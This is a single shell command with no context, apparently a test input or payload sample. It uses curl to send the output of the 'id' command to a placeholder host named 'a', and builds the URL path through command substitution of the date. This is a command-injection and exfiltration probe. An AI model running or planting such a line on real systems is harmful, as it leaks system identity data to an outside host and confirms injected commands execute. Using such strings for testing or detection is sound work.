curl http://a/$(date +%s) -d "`id`"
